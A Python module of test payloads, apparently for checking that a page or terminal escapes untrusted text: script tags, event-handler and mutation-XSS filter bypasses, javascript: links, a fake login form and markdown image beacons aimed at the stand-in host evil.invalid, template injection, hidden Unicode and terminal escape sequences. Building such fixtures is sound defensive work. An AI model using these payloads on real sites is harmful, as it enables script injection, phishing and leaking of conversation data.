"""Texts that would act where somebody forgot that they are text: in a page, in a terminal."""

HIT = "window.hit=1"  # what a script of ours would do
AWAY = "https://evil.invalid"

PAYLOADS = (
    # scripts and what runs them
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}//",
    f"<script src={AWAY}/a.js></script>",
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={HIT}></style></mglyph></math>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<marquee onstart={HIT}>x</marquee>",
    f'" autofocus onfocus="{HIT}" x="',
    f"' onmouseover='{HIT}' x='",
    # what a parser makes something else of than a filter
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    f'<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}>',
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<<img src=x onerror={HIT}//>>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"＜script＞{HIT}＜/script＞",
    f"<template><img src=x onerror={HIT}></template>",
    f"</textarea><img src=x onerror={HIT}>",
    f"</title></style></mark></button></dialog><img src=x onerror={HIT}>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"]]><img src=x onerror={HIT}><![CDATA[",
    # addresses that are scripts, and requests to somebody else
    f"javascript:{HIT}",
    f'<a href="javascript:{HIT}">klik</a>',
    f"[klik](javascript:{HIT})",
    f"![billede]({AWAY}/b.png?q=samtale)",
    f"<img src={AWAY}/c.png>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=data:text/html,<script>parent.{HIT}</script>></object>",
    f"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4= <embed src={AWAY}>",
    f"<form action={AWAY}><input name=cpr><button>Log ind</button></form>",
    f'<meta http-equiv=refresh content="0;url={AWAY}"><base href={AWAY}/>',
    f"<style>@import '{AWAY}/d.css'; body {{ background: url({AWAY}/e) }}</style>",
    f"<link rel=stylesheet href={AWAY}/f.css><link rel=prefetch href={AWAY}/g>",
    # templates, and signs that are not seen
    f"{{{{constructor.constructor('{HIT}')()}}}} {{{{#each x}}}}{{{{/each}}}}",
    f"${{{HIT}}} `${{{HIT}}}` #{{{HIT}}} <%= {HIT} %>",
    "\u202egnp.tobelif\u202c \u2066skjult\u2069",
    "nul\x00i \x00<\x00img src=x onerror=window.hit=1>",
    "usyn\u200bligt\u200d\ufeff<im\u200bg src=x onerror=window.hit=1>",
    "\x1b[31mrød\x1b[0m \x1b]0;titel\x07 \x9b2J "
    "\x1b]8;;https://evil.invalid\x1b\\klik\x1b]8;;\x1b\\",
)
